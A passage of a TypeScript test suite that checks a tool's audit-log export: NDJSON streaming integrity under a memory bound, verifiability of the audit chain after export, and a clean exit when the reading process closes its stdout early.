  it('streams the whole trail as NDJSON whose every line parses, with the bulk rows verbatim', async () => {
    const expectedRows = await countRows(ctx);
    let lines = 0;
    let pending = '';
    const seen = new Map<number, Record<string, unknown>>();
    const wanted = new Map(samples.map((i) => [bulkRow(i, base).id, i]));
    const sink = new Writable({
      write(chunk: Buffer, _enc, cb) {
        const parts = (pending + chunk.toString('utf8')).split('\n');
        pending = parts.pop()!;
        for (const line of parts) {
          const e = JSON.parse(line) as Record<string, unknown>;
          lines++;
          const i = wanted.get(e.id as string);
          if (i !== undefined) seen.set(i, e);
        }
        cb();
      },
    });

    const baseline = rssOf(server.pid);
    const sampler = sampleRss(server.pid);
    const res = await streamExport(`${server.url}/api/v1/audit-events/export?format=ndjson`, auth, sink, 0).finally(() => sampler.stop());
    const { peak } = sampler.stop();

    expect(res.status).toBe(200);
    expect(pending).toBe('');
    expect(lines).toBe(expectedRows);
    expect(peak - baseline).toBeLessThan(MEMORY_BOUND);
    const special = bulkRow(12_345, base);
    expect(seen.get(12_345)).toMatchObject({ id: special.id, seq: firstSeq + 12_345, userAgent: special.user_agent, reason: special.reason, detail: { name: '@SUM(1+1)', note: 'tab\there' } });
    for (const i of samples) expect(seen.get(i)).toMatchObject({ id: bulkRow(i, base).id, seq: firstSeq + i, at: new Date(base + i).toISOString() });
  }, 300_000);

  it('leaves the bulk-loaded trail verifiable after both exports', async () => {
    const result = await ctx.container.audit.chain.verify();
    expect(result).toMatchObject({ ok: true });
    expect(result.checked).toBeGreaterThanOrEqual(firstSeq + BIG - 1);
  }, 300_000);
});

describe('pkv audit export into a reader that goes away (`| head`)', () => {
  let ctx: TestContext;
  beforeAll(async () => {
    ctx = await createTestContext();
    for (let i = 0; i < 3000; i += 500) {
      await ctx.db.transaction(async (tx) => {
        for (let j = i; j < i + 500; j++) await ctx.container.audit.record(tx, cliActor(null), 'project.create', 'success', {}, { detail: { n: j, note: 'x'.repeat(200) } });
      });
    }
  }, 120_000);
  afterAll(async () => {
    await killAll();
    await ctx.close();
  });

  it('stops quietly with exit 0 and nothing on stderr once its stdout is closed', async () => {
    const proc = spawnPkv(['audit', 'export', '--format', 'ndjson'], ctx.env, { cwd: ctx.tdb.dir });
    let received = 0;
    // Read the first chunk, then hang up, as `head -c` would: the export (about 1 MB) is far from done.
    proc.child.stdout!.once('data', (c: string) => {
      received = c.length;
      proc.child.stdout!.destroy();
    });
    const { code, stderr } = await proc.exited;
    expect(received).toBeGreaterThan(0);
    // Only the structured audit log line: no stack trace, no EPIPE, no error level.
    const lines = stderr.split('\n').filter(Boolean);
    expect({ code, plain: lines.filter((l) => !l.startsWith('{')) }).toEqual({ code: 0, plain: [] });
    expect(lines.map((l) => JSON.parse(l).level)).toEqual(['info']);
  }, 60_000);
});
